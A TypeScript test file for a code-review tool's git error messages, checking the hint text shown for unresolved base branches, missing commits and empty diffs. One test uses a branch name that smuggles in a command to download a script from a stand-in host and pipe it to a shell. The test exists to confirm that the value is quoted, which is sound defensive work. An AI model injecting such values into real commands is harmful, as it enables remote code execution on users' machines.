// The errors of git and the problems of targets in words: every reason has its message.
import { assert, describe, it } from "vitest"
import { BranchName, CommitSha } from "../../../src/run/Target.ts"
import { GitFailed, type TargetProblem, targetProblemText } from "../../../src/code/Git.ts"

it("a failure names what was asked and why there was no answer", () => {
  const failed = new GitFailed({
    what: "finding the repository",
    reason: { _tag: "ProgramFailed", program: "git", status: 128, said: "fatal: not a git repository" }
  })
  assert.strictEqual(failed.message, "git: finding the repository: fatal: not a git repository")
})

describe("the problem of a target is", () => {
  const branch = BranchName.make("main")
  const sha = CommitSha.make("a".repeat(40))
  const texts: {
    readonly [T in TargetProblem["_tag"]]: readonly [Extract<TargetProblem, { readonly _tag: T }>, string]
  } = {
    BaseUnknown: [
      { _tag: "BaseUnknown" },
      "the pull request's base branch is not known [log in with gh, or review with --base BRANCH]"
    ],
    BaseUnresolved: [
      { _tag: "BaseUnresolved", branch },
      "base branch main cannot be resolved in this repository [git fetch origin main:main]"
    ],
    NoCommonAncestor: [
      { _tag: "NoCommonAncestor", branch },
      "HEAD and base branch main have no common ancestor " +
      "[name another --base; where the clone is shallow: git fetch --unshallow]"
    ],
    SameAsBase: [
      { _tag: "SameAsBase", branch },
      "nothing to review: no difference from base branch main [change something first]"
    ],
    CommitUnresolved: [{ _tag: "CommitUnresolved", sha }, `commit ${sha} is not in this repository [fetch it first]`],
    CommitEmpty: [{ _tag: "CommitEmpty", sha }, `nothing to review: commit ${sha} changes nothing [name another]`],
    NothingUncommitted: [
      { _tag: "NothingUncommitted" },
      "nothing to review: the working tree has no uncommitted changes [change something first]"
    ]
  }
  it.each(Object.values(texts))("%o", (problem, text) => assert.strictEqual(targetProblemText(problem), text))

  it("a branch of a remote is fetched to where its name looks for it", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("origin/main") }),
      "[git fetch origin main:refs/remotes/origin/main]"
    ))

  it("a short id of a commit is not taken for one: the full id is", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("fac6d1f") }),
      "[git fetch origin fac6d1f:fac6d1f; of a commit, use the full id]"
    ))

  it("a branch is one word of the command that fetches it", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("x;curl${IFS}evil|sh") }),
      "[git fetch origin 'x;curl${IFS}evil|sh:x;curl${IFS}evil|sh']"
    ))
})
